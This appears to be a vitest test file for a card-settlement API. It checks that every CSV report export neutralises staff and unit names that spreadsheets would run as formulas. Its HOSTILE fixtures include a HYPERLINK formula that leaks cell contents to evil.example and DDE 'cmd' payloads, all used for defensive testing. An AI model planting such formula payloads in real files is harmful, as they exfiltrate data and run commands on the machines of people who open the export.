import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvCell, csvLine } from "../../api/src/http/csv.ts";
import { apiClient, postRecharge, type Schemas } from "../helpers/api-client.ts";
import { buildApp, requestInit } from "../helpers/app.ts";
import { createTestDatabase, type TestDatabase } from "../helpers/database.ts";
import { Fixtures } from "../helpers/fixtures.ts";
import { newOutlet, sellAt, tokenAt } from "../helpers/funds.ts";
import { clockAfter, currentBusinessDay, currentPeriod } from "../helpers/settlement.ts";

/**
 * CSV formula injection: unit and staff names are typed by people, and every CSV export carries
 * some. A name a spreadsheet would run as a formula must come out as text (a leading `'`), in
 * every export; numbers, negative ones included, stay numbers.
 */
const HOSTILE = {
  outlet: '=HYPERLINK("http://evil.example/?leak="&A1,"营业厅")',
  city: "+cmd|' /C calc'!A0",
  otherCity: "@SUM(1+1)*cmd|' /C calc'!A0",
  clerk: "-2+3+cmd|' /C calc'!A0",
  maker: "\t=1+1",
};
const neutral = (name: string) => `'${name}`;

/** A minimal RFC 4180 reader (quoted fields, doubled quotes, CRLF lines), to read cells as a spreadsheet does. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe("csvCell / csvLine", () => {
  it("prefixes a quote to text that would start a formula, and leaves everything else as it is", () => {
    for (const text of ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "＝1+1", "＋1", "－1", "＠x"])
      expect(csvCell(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const text of ["张三", "1+1", "a=b", " =1", "'=1", "2026-11", ""])
      expect(csvCell(text), JSON.stringify(text)).toBe(text);
  });
  it("keeps numbers numbers, negative ones included", () => {
    expect(csvLine(["-x", -100, 0, 12_345, null, "total"])).toBe("'-x,-100,0,12345,,total\r\n");
  });
  it("still quotes what needs quoting after neutralising", () => {
    const line = csvLine(['=HYPERLINK("a","b")', "\r=1"]);
    expect(parseCsv(line)).toEqual([[`'=HYPERLINK("a","b")`, "'\r=1"]]);
  });
});

let t: TestDatabase;
let f: Fixtures;
let app: ReturnType<typeof buildApp>;
let officer: { id: string; token: string };
let outlet: string;
const P = currentPeriod();
const today = currentBusinessDay();
const key = () => `csv-${Math.random()}`;

beforeAll(async () => {
  t = await createTestDatabase();
  f = await Fixtures.create(t.db);
  app = buildApp(t.db);
  officer = await f.staff(["settlement_officer"], { unitId: f.provinceId });
  const checker = await f.staff(["settlement_officer"], { unitId: f.provinceId });
  outlet = await newOutlet(t.db, f, f.cityId);
  const sold = await sellAt(app, f, outlet, 2);
  const [c1, c2] = [(await f.customer()).customerNo, (await f.customer()).customerNo];
  await t.db.query("UPDATE customers SET accounting_unit_id = $2 WHERE customer_no = $1", [
    c2,
    f.otherCityId,
  ]);
  const counter = (await f.client("counter")).apiKey;
  for (const [i, customerNo] of [c1, c2].entries()) {
    const card = { cardNo: sold.cardNos[i] ?? "", pin: sold.pins[i] ?? "" };
    const res = await postRecharge(apiClient(app, { apiKey: counter }), { ...card, customerNo }, key());
    expect(res.status).toBe(201);
  }
  const declared = await app.request(
    "/v1/remittances",
    requestInit("POST", {
      token: (await f.staff(["fund_admin"])).token,
      idempotencyKey: key(),
      body: { outletUnitId: outlet, businessDate: today, amountFen: 5_000, bankReference: key() },
    }),
  );
  expect(declared.status).toBe(201);
  const confirmed = await app.request(
    `/v1/remittances/${((await declared.json()) as Schemas["Remittance"]).id}/confirm`,
    requestInit("POST", { token: checker.token, idempotencyKey: key() }),
  );
  expect(confirmed.status).toBe(200);
  // This month's settlement run, made and approved once the month is over.
  const at = clockAfter(P);
  const later = buildApp(t.db, { now: () => at });
  const run = await later.request(
    "/v1/settlement-runs",
    requestInit("POST", { token: await tokenAt(officer.id, at), body: { period: P } }),
  );
  expect(run.status).toBe(201);
  const { approvalId } = (await run.json()) as Schemas["SettlementRun"];
  const approved = await later.request(
    `/v1/approvals/${approvalId}/approve`,
    requestInit("POST", { token: await tokenAt(checker.id, at), body: {} }),
  );
  expect(approved.status).toBe(200);

  // The names people typed, hostile ones.
  const rename = (table: string, column: string, id: string, name: string) =>
    t.db.query(`UPDATE ${table} SET ${column} = $2 WHERE id = $1`, [id, name]);
  await rename("org_units", "name", outlet, HOSTILE.outlet);
  await rename("org_units", "name", f.cityId, HOSTILE.city);
  await rename("org_units", "name", f.otherCityId, HOSTILE.otherCity);
  await rename("staff_users", "display_name", sold.clerk.id, HOSTILE.clerk);
  await rename("staff_users", "display_name", officer.id, HOSTILE.maker);
}, 120_000);
afterAll(() => t?.close());

/** An export as a spreadsheet reads it: rows of cells, by column name. */
async function exported(path: string) {
  const res = await app.request(path, requestInit("GET", { token: officer.token }));
  expect(res.status, await res.clone().text()).toBe(200);
  expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  const [header = [], ...rows] = parseCsv(await res.text());
  return rows.map((cells) => Object.fromEntries(header.map((column, i) => [column, cells[i] ?? ""])));
}

/** No cell of the export starts a formula. */
const noFormula = (rows: Record<string, string>[]) => {
  for (const row of rows)
    for (const [column, cell] of Object.entries(row))
      expect(/^[=+@\t\r]/.test(cell) || /^-\D/.test(cell), `${column}: ${JSON.stringify(cell)}`).toBe(false);
};

describe("every CSV export neutralises hostile names", () => {
  it("daily sales: the outlet's and the clerk's names", async () => {
    const rows = await exported(`/v1/reports/daily-sales?from=${today}&to=${today}&format=csv`);
    const line = rows.find((r) => r.outlet_unit_id === outlet);
    expect(line?.outlet_name).toBe(neutral(HOSTILE.outlet));
    expect(line?.clerk_name).toBe(neutral(HOSTILE.clerk));
    expect(line?.amount_fen).toBe("20000");
    noFormula(rows);
  });

  it("remittance variance: the outlet's name; the figures stay numbers", async () => {
    const rows = await exported(`/v1/reports/remittance-variance?from=${today}&to=${today}&format=csv`);
    const line = rows.find((r) => r.outlet_unit_id === outlet);
    expect(line?.outlet_name).toBe(neutral(HOSTILE.outlet));
    expect([line?.sold_fen, line?.confirmed_fen, line?.outstanding_fen]).toEqual(["20000", "5000", "15000"]);
    noFormula(rows);
  });

  it("monthly clearing, both files: the units' names", async () => {
    const units = await exported(`/v1/reports/monthly-clearing?period=${P}&format=csv`);
    expect(units.find((r) => r.unit_id === f.cityId)?.unit_name).toBe(neutral(HOSTILE.city));
    expect(units.find((r) => r.unit_id === f.otherCityId)?.unit_name).toBe(neutral(HOSTILE.otherCity));
    noFormula(units);
    const cross = await exported(`/v1/reports/monthly-clearing?period=${P}&format=csv&part=cross-unit`);
    const line = cross.find((r) => r.used_in_unit_id === f.otherCityId);
    expect(line?.sold_in_unit_name).toBe(neutral(HOSTILE.city));
    expect(line?.used_in_unit_name).toBe(neutral(HOSTILE.otherCity));
    noFormula(cross);
  });

  it("settlement history: the maker's and the units' names", async () => {
    const rows = await exported(`/v1/reports/settlement-history?from=${P}&to=${P}&format=csv`);
    const line = rows.find((r) => r.unit_id === f.cityId);
    expect(line?.created_by_name).toBe(neutral(HOSTILE.maker));
    expect(line?.unit_name).toBe(neutral(HOSTILE.city));
    noFormula(rows);
  });

  it("card float and recharges by channel carry no typed text, and no cell starts a formula", async () => {
    noFormula(await exported(`/v1/reports/card-float?format=csv`));
    noFormula(await exported(`/v1/reports/recharges-by-channel?from=${today}&to=${today}&format=csv`));
  });
});
